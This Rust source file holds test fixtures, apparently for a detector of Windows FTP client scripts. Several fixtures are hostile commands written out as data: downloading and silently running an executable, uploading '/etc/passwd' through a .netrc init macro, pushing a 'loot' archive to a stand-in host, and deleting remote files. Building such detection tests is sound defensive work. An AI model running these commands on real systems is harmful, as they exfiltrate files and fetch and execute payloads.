//! Scripts as files, and how the client is started with them.

use super::{Variant, variant};

pub(super) const VARIANTS: &[Variant] = &[
    variant(
        "V14 -A with the host on the command line, questions answered",
        &[
            ("run.cmd", "ftp -A -s:quit.txt 203.0.113.114\r\n"),
            ("quit.txt", "bin\r\ncd pub\r\nmget *.cab\r\ny\r\ny\r\nquit\r\n"),
        ],
        &[],
    ),
    variant(
        "V15 anonymous typed although -A logs in",
        &[("run.cmd", "ftp -A -s:f.txt"), ("f.txt", "open 203.0.113.115\r\nanonymous\r\n\r\nget 6789.exe\r\nquit\r\n")],
        &[],
    ),
    variant("V16 switches with a slash, the script gone", &[("run.cmd", "start /min ftp /s:FTP.txt /A")], &[]),
    variant(
        "V17 bundled switches",
        &[
            ("run.cmd", "ftp.exe -ins:d:\\w\\get.txt"),
            ("D/w/get.txt", "open 203.0.113.117\r\nuser a b\r\nmget 2026*.csv\r\nquit\r\n"),
        ],
        &[],
    ),
    variant(
        "V18 a switch of another client: usage, and the end",
        &[
            ("run.cmd", "ftp -v -n -P 2121 -s:ftp.txt"),
            ("ftp.txt", "open 203.0.113.118\r\nuser a b\r\nget x.exe\r\nquit\r\n"),
        ],
        &[],
    ),
    variant(
        "V19 the host named twice: the first line is the user name",
        &[
            ("run.cmd", "ftp -s:a.txt 203.0.113.119"),
            ("a.txt", "open 203.0.113.119\r\nmallory\r\npw\r\nget x\r\nbye\r\n"),
        ],
        &[],
    ),
    variant(
        "V20 abbreviations in any case",
        &[("a.txt", "OP 203.0.113.120\nmallory\npw\nBI\nREC a.bin b.bin\nSE c.txt\nBY\n")],
        &[],
    ),
    variant(
        "V21 abbreviations of several commands are none",
        &[("a.txt", "open 203.0.113.121\nmallory\npw\nb\nd a.txt\nge a.exe\nqu\nquit\n")],
        &[],
    ),
    variant(
        "V22 an answer of two words satisfies both questions",
        &[("a.txt", "open 203.0.113.122\nmallory\npw\nget\nremote dir.exe\n\"C:\\Users\\Public\\x.exe\"\nbye\n")],
        &[],
    ),
    variant(
        "V23 put asks for both names",
        &[("a.txt", "open 203.0.113.123\nmallory\npw\nbin\nput\nC:\\loot\\a.7z\nup/a.7z\nbye\n")],
        &[],
    ),
    variant(
        "V24 answers to mget, and what comes after them",
        &[("a.txt", "open 203.0.113.124\nmallory\npw\nmget *.exe\ny\ny\nn\nbin\nget z.exe\nbye\n")],
        &[],
    ),
    variant(
        "V25 two sessions, no questions, remote files deleted",
        &[(
            "a.txt",
            "open 203.0.113.125\nmallory\npw\nprompt\ncd /in\nmput C:\\x\\*.zip\nmdelete *.bak\nclose\nopen 203.0.113.126 2100\neve\npw2\nget cfg.ini\nbye\n",
        )],
        &[],
    ),
    variant(
        "V26 open while connected",
        &[("a.txt", "open 203.0.113.127\nmallory\npw\nopen 203.0.113.128\neve\npw2\nget a\nbye\n")],
        &[],
    ),
    variant(
        "V27 the login by quote",
        &[
            ("run.cmd", "ftp -n -s:a.txt"),
            (
                "a.txt",
                "open 203.0.113.129\nquote USER qmal\nquote PASS qpw\nbinary\nquote SITE CHMOD 777 x\nget x y.exe\nquote DELE x\nbye\n",
            ),
        ],
        &[],
    ),
    variant(
        "V28 literal, append, rename, folders, a listing",
        &[(
            "a.txt",
            "open ftp.example.org\nmallory\npw\nliteral TYPE I\nmkdir %DATE%\nappend C:\\log.txt all.log\nrename all.log all.bak\nls . C:\\out.txt\nbye\n",
        )],
        &[],
    ),
    variant(
        "V30 the shell around a transfer",
        &[(
            "a.txt",
            "!mkdir C:\\ProgramData\\q\nlcd C:\\ProgramData\\q\nopen 203.0.113.130\nmallory\npw\nbin\nget p.exe\n!C:\\ProgramData\\q\\p.exe /s\n! del p.exe\nbye\n",
        )],
        &[],
    ),
    variant(
        "V31 a batch file that is its own script",
        &[(
            "up.bat",
            "@ftp -i -s:\"%~f0\"&GOTO:EOF\nopen 203.0.113.131\nmallory\npw\n!:--- ftp commands below ---\nbin\nlcd \"C:\\Data\"\nmput *.csv\ndisconnect\nquit\n",
        )],
        &[],
    ),
    variant(
        "V32 its own script by %0, the commands first",
        &[("up.bat", "goto skip\nbin\nget /pub/a.7z a.7z\nquit\n:skip\nftp -s:%0 -A downloads.example.com\n")],
        &[],
    ),
    variant(
        "V33 its own script, the first line taken for the user name",
        &[("up.bat", "ftp -s:\"%~f0\" 203.0.113.133&exit /b\nmallory\npw\nget a\nquit\n")],
        &[],
    ),
    variant(
        "V34 remarks that the client takes for commands",
        &[("a.txt", "# stage\n; note\nrem fetch it\nopen 203.0.113.134\nmallory\npw\nrem now get\nget a.exe\nbye\n")],
        &[],
    ),
    variant(
        "V35 bare answers although -n asks nothing",
        &[
            ("run.cmd", "ftp -n -s:a.txt"),
            ("a.txt", "open 203.0.113.135\nanonymous\nanonymous\nbinary\nget a.exe\nbye\n"),
        ],
        &[],
    ),
    variant(
        "V36 a blank in the password",
        &[("run.cmd", "ftp -n -s:a.txt"), ("a.txt", "open 203.0.113.136\nuser mallory my pass\nget a\nbye\n")],
        &[],
    ),
    variant(
        "V37 the password by a command that does not exist",
        &[("run.cmd", "ftp -n -s:a.txt"), ("a.txt", "open 203.0.113.137\nuser mallory\npass t0psecret\nget a\nbye\n")],
        &[],
    ),
    variant(
        "V38 tabs, empty lines, no end of the last line",
        &[("a.txt", "open\t203.0.113.138\t21\r\nmallory\r\npw\r\n\r\n   get\ta.exe   b.exe\r\n\r\nbye")],
        &[],
    ),
    variant(
        "V48 the script by standard input",
        &[("a.bat", "ftp -n 203.0.113.148 < cmds.txt\n"), ("cmds.txt", "user mallory pw\nput a.zip\nbye\n")],
        &[],
    ),
    variant(
        "V48 the script by a pipe",
        &[("a.bat", "type cmds.txt | ftp -n 203.0.113.148\n"), ("cmds.txt", "user mallory pw\nput a.zip\nbye\n")],
        &[],
    ),
    variant(
        "V53 a netrc file with an initial macro",
        &[(
            "home/kim/.netrc",
            "machine 203.0.113.153 login mallory password pw\nmacdef init\nbinary\nput /etc/passwd p\nquit\n\n",
        )],
        &[],
    ),
    variant(
        "V53 the same with the client that uses it",
        &[
            (
                "home/kim/.netrc",
                "machine 203.0.113.153 login mallory password pw\nmacdef init\nbinary\nput /etc/passwd p\nquit\n\n",
            ),
            ("home/kim/go.sh", "#!/bin/sh\nftp 203.0.113.153\n"),
        ],
        &[],
    ),
    variant("V72 prose", &[("a.txt", "open the gate and get tea, bye\n")], &[]),
    variant("V73 commands of another program", &[("a.txt", "open store.sqlite\nuser table\nget row\n")], &[]),
];
